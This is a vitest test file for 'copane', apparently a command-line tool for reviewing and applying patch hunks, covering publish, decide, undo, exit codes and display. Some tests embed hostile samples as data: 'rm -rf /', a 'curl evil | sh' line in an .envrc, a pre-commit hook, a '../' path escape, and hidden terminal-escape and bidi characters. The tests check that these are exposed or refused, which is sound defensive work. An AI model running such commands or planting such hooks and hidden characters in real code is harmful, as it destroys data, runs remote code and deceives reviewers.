/** The review from scripts: data on stdout, words on stderr, and an exit code that tells outcomes apart. */
import { spawnSync } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterEach, beforeEach, expect, test } from 'vitest';
import { git, makeFolder, makeRepository, patchTo, putTree, readText } from '../../helpers/git-fixture.ts';
import { COPANE } from '../../helpers/product.ts';
import { removeTree } from '../../helpers/remove-tree.ts';

const base = Array.from({ length: 20 }, (_, i) => `line ${i}\n`).join('');
const want = base.replace('line 3\n', 'three\n').replace('line 15\n', 'fifteen\n');

let root = '';
let home = '';

beforeEach(() => {
  root = makeRepository({ f: base });
  home = makeFolder();
  mkdirSync(path.join(home, 'run'), { mode: 0o700 });
});
afterEach(() => {
  for (const folder of [root, home]) removeTree(folder);
});

function copane(args: readonly string[], input: string | Buffer = '') {
  const { TMUX: _, TMUX_PANE: __, CI: ___, COPANE_SOCKET: ____, ...env } = process.env;
  const run = spawnSync(COPANE, args, {
    cwd: root,
    encoding: 'utf8',
    maxBuffer: 1 << 26,
    input,
    env: {
      ...env,
      HOME: home,
      XDG_RUNTIME_DIR: path.join(home, 'run'),
      XDG_STATE_HOME: path.join(home, 'state'),
      XDG_CONFIG_HOME: path.join(home, 'config'),
    },
  });
  return { code: run.status, out: run.stdout, err: run.stderr };
}

test('publish, show, decide, undo, redo, finish', () => {
  const patch = path.join(home, 'p.diff');
  writeFileSync(patch, patchTo(root, { f: want }));
  const published = copane([
    'publish',
    '--patch',
    patch,
    '--target',
    root,
    '--description',
    'Two edits',
    '--json',
  ]);
  expect(published.code).toBe(0);
  const { suggestion_id: id, hunks, ...rest } = JSON.parse(published.out);
  expect(rest).toMatchObject({ description: 'Two edits', status: 'pending', files: ['f'] });
  expect(hunks).toHaveLength(2);
  expect(hunks[0]).toMatchObject({
    file: 'f',
    kind: 'text',
    status: 'pending',
    diff: expect.stringContaining('+three'),
  });

  const accepted = copane(['decide', id, hunks[0].id, 'accept', '--comment', 'good', '--json']);
  expect(JSON.parse(accepted.out)).toMatchObject({ id: hunks[0].id, status: 'accepted' });
  expect(readText(root, 'f')).toBe(base.replace('line 3\n', 'three\n'));

  const said = copane([
    'decide',
    id,
    hunks[1].id,
    'comment',
    '--lines',
    '3-4',
    '--comment',
    'why\nso?',
    '--json',
  ]);
  expect(said.code).toBe(0);
  expect(JSON.parse(said.out)).toMatchObject({
    status: 'pending',
    comments: [
      { text: 'why\nso?', lines: { first: 3, last: 4 }, quote: expect.stringContaining('\n-line 15') },
    ],
  });
  const around = copane([
    'decide',
    id,
    hunks[1].id,
    'comment',
    '--file-lines',
    '9-10',
    '--comment',
    'and here?',
    '--json',
  ]);
  expect(JSON.parse(around.out).comments.at(-1)).toEqual({
    text: 'and here?',
    file_lines: { side: 'new', first: 9, last: 10 },
    quote: ' line 8\n line 9',
  });
  for (const [action, ...flags] of [
    ['accept', '--file-lines', '9'],
    ['comment', '--comment', 'x', '--file-lines', '9', '--lines', '1'],
    ['comment', '--comment', 'x', '--file-lines', '900'],
  ])
    expect(copane(['decide', id, hunks[1].id, action ?? '', ...flags])).toMatchObject({ code: 2 });
  expect(copane(['decide', id, hunks[1].id, 'comment']).code).toBe(2);
  const total = hunks[1].diff.trimEnd().split('\n').length - 1;
  for (const lines of ['0', '0-2', `1-${total + 1}`]) {
    const refused = copane(['decide', id, hunks[1].id, 'comment', '--comment', 'x', '--lines', lines]);
    expect(refused).toMatchObject({ code: 2, err: expect.stringContaining(`The hunk has ${total} lines;`) });
  }
  expect(JSON.parse(copane(['undo', id, hunks[0].id, '--json']).out)).toMatchObject({ status: 'pending' });
  expect(readText(root, 'f')).toBe(base);
  expect(JSON.parse(copane(['redo', id.slice(0, 6), hunks[0].id.slice(0, 6), '--json']).out)).toMatchObject({
    status: 'accepted',
  });
  expect(JSON.parse(copane(['decide', id, 'all', 'accept', '--json']).out)).toMatchObject({
    id: hunks[1].id,
  });
  expect(readText(root, 'f')).toBe(want);
  expect(JSON.parse(copane(['show', id.slice(0, 6), '--json']).out)).toMatchObject({
    suggestion_id: id,
    status: 'complete',
  });
  expect(copane(['suggestions']).out).toContain('complete  2/2 decided, 1 file  Two edits');
  expect(JSON.parse(copane(['finish', id, 'finalize', '--json']).out)).toMatchObject({ status: 'finalized' });
  expect(copane(['suggestions', '--json']).out).toBe('[]\n');
}, 120_000);

test('a patch on stdin; lines of a hunk; an edited diff', () => {
  const published = copane(['publish', '--json'], patchTo(root, { f: want }));
  const { suggestion_id: id, hunks } = JSON.parse(published.out);
  const lines = hunks[1].diff.split('\n').slice(1);
  const added = lines.indexOf('+fifteen') + 1;
  expect(
    JSON.parse(copane(['decide', id, hunks[1].id, 'accept', '--lines', `${added}-${added}`, '--json']).out),
  ).toMatchObject({ parent: hunks[1].id });
  expect(readText(root, 'f')).toBe(base.replace('line 15\n', 'line 15\nfifteen\n'));
  const edited = copane(
    ['decide', id, hunks[0].id, 'modify', '--diff', '-', '--json'],
    hunks[0].diff.replace('+three', '+drei'),
  );
  expect(JSON.parse(edited.out)).toMatchObject({ status: 'modified' });
  expect(readText(root, 'f')).toContain('line 2\ndrei\nline 4\n');
}, 120_000);

test('exit codes: 2 bad input, 3 refused, 4 not found; a reason on stderr each time', () => {
  const { suggestion_id: id } = JSON.parse(copane(['publish', '--json'], patchTo(root, { f: want })).out);
  putTree(root, { f: base.replaceAll('line 3\n', 'mine\n') });
  const cases: [readonly string[], string, number, RegExp][] = [
    [['publish', '--json'], 'not a diff', 2, /not a unified diff/],
    [['publish'], '--- /dev/null\n+++ b/../x\n@@ -0,0 +1 @@\n+x\n', 3, /leaves the root/],
    [['publish', '--patch', 'nope.diff'], '', 2, /cannot be read/],
    [['decide', id, 'all', 'accept'], '', 3, /Hunk/],
    [['decide', id, 'nope', 'accept'], '', 4, /Hunk not found: nope/],
    [['decide', 'nope', 'all', 'accept'], '', 4, /Suggestion not found: nope/],
    [['decide', id, 'all', 'burn'], '', 2, /burn/],
    [['show', 'nope', '--json'], '', 4, /Suggestion not found/],
    [['undo', id, 'all'], '', 3, /nothing to undo/],
    [['review', ''], '', 2, /^copane: What to review is an empty name/],
    [['review', 'a', 'b', 'c'], '', 2, /Two folders are compared/],
  ];
  for (const [args, input, code, reason] of cases) {
    const run = copane(args, input);
    expect({ args, code: run.code, err: run.err }).toEqual({
      args,
      code,
      err: expect.stringMatching(reason),
    });
  }
  expect(readText(root, 'f')).toBe(base.replaceAll('line 3\n', 'mine\n'));
}, 120_000);

test('a review of the working tree, in place', () => {
  putTree(root, { f: want, new: 'n\n' });
  const { suggestion_id: id, in_place: inPlace, hunks } = JSON.parse(copane(['review', '--json']).out);
  expect({ inPlace, hunks: hunks.length }).toEqual({ inPlace: true, hunks: 3 });
  expect(copane(['decide', id, 'all', 'reject']).code).toBe(0);
  expect(git(root, 'status', '--porcelain')).toBe('');
  expect(copane(['undo', id, 'all']).code).toBe(0);
  expect(readText(root, 'f')).toBe(want);
}, 120_000);

test('of very many hunks the first are said, and where the others are; a diff that is cut says so', () => {
  const many = Array.from({ length: 150 * 20 }, (_, i) => `line ${i} ${'x'.repeat(1_500)}\n`);
  const edited = many.map((line, i) => (i % 20 === 10 ? `edited ${line}` : line));
  putTree(root, { many: many.join('') });
  git(root, 'add', 'many');
  git(root, 'commit', '-qm', 'many');
  putTree(root, { many: edited.join('') });
  const reviewed = copane(['review']);
  const id = reviewed.out.trim();
  const said = reviewed.err.split('\n').filter((line) => line !== '');
  expect(said, reviewed.err).toHaveLength(102);
  expect(said.at(-2)).toBe(`… and 50 more: "copane show ${id}" prints them all`);
  expect(said.at(-1)).toContain('150 hunks');
  const shown = copane(['show', id]);
  expect(shown.out.match(/^◌ /gm)).toHaveLength(150);
  expect(shown.out).not.toContain('too long to print');
  putTree(root, { many: null, f: `${'long '.repeat(400_000)}\n` });
  const long = copane(['show', copane(['review', '--description', 'long']).out.trim()]);
  expect(long.out).toMatch(/^\(too long to print here in full\)$/m);
});

/** Publishes `text` as the new `f` and shows it. */
function shown(text: string, ...more: readonly string[]): string {
  const bytes = Buffer.from(text).toString('latin1');
  const patch = Buffer.from(patchTo(root, { f: bytes }), 'latin1');
  const out = copane(['publish', '--json', ...more], patch).out;
  return copane(['show', JSON.parse(out).suggestion_id]).out;
}

test('notes of a review that was replaced are named by the one that took its place', () => {
  putTree(root, { f: want });
  const { id, hunks } = JSON.parse(copane(['review', '--json']).out);
  copane(['decide', id, hunks[0].id, 'reject', '--comment', 'keep the 3']);
  for (const name of ['new', 'newer']) {
    putTree(root, { [name]: 'x\n' });
    copane(['review']);
  }
  expect(copane(['review', '--notes']).err).toContain(`copane review --notes ${id}`);
  expect(copane(['review', '--notes', id]).out).toContain('keep the 3');
});

test('show hides no line and no character, whatever a patch, its description and its notes hold', () => {
  const hostile = [
    'before \u001b]0;never ended',
    'rm -rf / # seen',
    'fine\revil',
    'safe\b\b\b\bevil',
    'if (admin\u202e \u2066// check\u2069) \u3164 = 1',
    `ok();${' '.repeat(300)}evil();`,
    'می‌خواهم 👩🏽‍🚀',
  ];
  const description = 'Title \u001b[2J\u202e\nmore';
  const out = shown(
    `${base}${hostile.join('\n')}\n`,
    '--description',
    description,
    '--note',
    'f=a \u001b[1A note',
  );
  expect(out).toContain('+before ␛]0;never ended\n+rm -rf / # seen\n+fine␍evil\n+safe␈␈␈␈evil\n');
  expect(out).toContain('+if (admin<202E> <2066>// check<2069>) <3164> = 1\n');
  expect(out).toContain('+می‌خواهم 👩🏽‍🚀\n');
  expect(out).toContain('Title ␛[2J<202E>\n');
  expect(out).toContain(
    '  ! 10 hidden characters: U+001B ESCAPE, U+000D CARRIAGE RETURN, U+0008 BACKSPACE (4), ',
  );
  expect(out).toContain('  ! Text far to the right, after 80 blanks or more, in line 26\n');
  const named = JSON.parse(copane(['publish', '--json'], patchTo(root, { 'x\ny': 'z\n' })).out);
  expect(copane(['show', named.suggestion_id]).out).toContain('  x␊y  create  pending\n');
  expect(out).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\u3164]/);
});

test('show puts what the author says of a hunk above its diff, marked line by line', () => {
  const note = 'f=why it is so\n\n+evil();\n@@ -1 +1 @@\n- \u202esafe';
  const out = shown(want, '--note', note);
  const marked = ['  # why it is so', '  # +evil();', '  # @@ -1 +1 @@', '  # - <202E>safe'];
  expect(out).toContain(`  f  pending\n${marked.join('\n')}\n@@ `);
  const evil = out.split('\n').filter((line) => line.includes('evil'));
  expect(new Set(evil)).toEqual(new Set(['  # +evil();']));
});

test('all is accepted with files that run by themselves only when that is said', () => {
  const patch = patchTo(root, { f: want, '.envrc': 'curl evil | sh\n', '.husky/pre-commit': 'evil\n' });
  const { suggestion_id: id, hunks } = JSON.parse(copane(['publish', '--json'], patch).out);
  const running = hunks.filter(
    ({ warnings }: { warnings?: { kind: string }[] }) => warnings?.[0]?.kind === 'runs',
  );
  expect(running.map(({ file }: { file: string }) => file)).toEqual(['.envrc', '.husky/pre-commit']);

  const refused = copane(['decide', id, 'all', 'accept']);
  expect(refused).toMatchObject({ code: 3, out: '' });
  expect(refused.err).toContain('.envrc and .husky/pre-commit run by themselves. Nothing was accepted.');
  expect(readText(root, 'f')).toBe(base);

  expect(copane(['decide', id, 'all', 'accept', '--file', 'f'])).toMatchObject({ code: 0 });
  expect(copane(['decide', id, 'all', 'accept', '--file', '.envrc'])).toMatchObject({ code: 3, out: '' });
  expect(copane(['decide', id, running[0].id, 'accept'])).toMatchObject({ code: 0 });
  expect(copane(['decide', id, 'every', 'accept'])).toMatchObject({ code: 3 });
  expect(copane(['decide', id, 'all', 'accept', '--accept-self-running'])).toMatchObject({ code: 0 });
  expect(readText(root, '.husky/pre-commit')).toBe('evil\n');
});

test('what is kept is purged by kind: what is finished at once, what is not when that is said', () => {
  const { suggestion_id: open } = JSON.parse(copane(['publish', '--json'], patchTo(root, { f: want })).out);
  const { suggestion_id: ended } = JSON.parse(copane(['publish', '--json'], patchTo(root, { n: 'n\n' })).out);
  expect(copane(['finish', ended, 'discard'])).toMatchObject({ code: 0 });
  const purge = (...more: string[]) =>
    JSON.parse(copane(['state', '--purge', 'reviews', '--json', ...more]).out) as object;
  expect(purge()).toEqual({ kind: 'reviews', purged: 0, unfinished: 0 });
  expect(purge('--older-than', '0')).toEqual({ kind: 'reviews', purged: 1, unfinished: 1 });
  expect(copane(['show', ended]).code).toBe(4);
  expect(copane(['show', open]).code).toBe(0);
  expect(purge('--older-than', '0', '--unfinished')).toMatchObject({ purged: 1, unfinished: 0 });
  expect(copane(['show', open]).code).toBe(4);
});
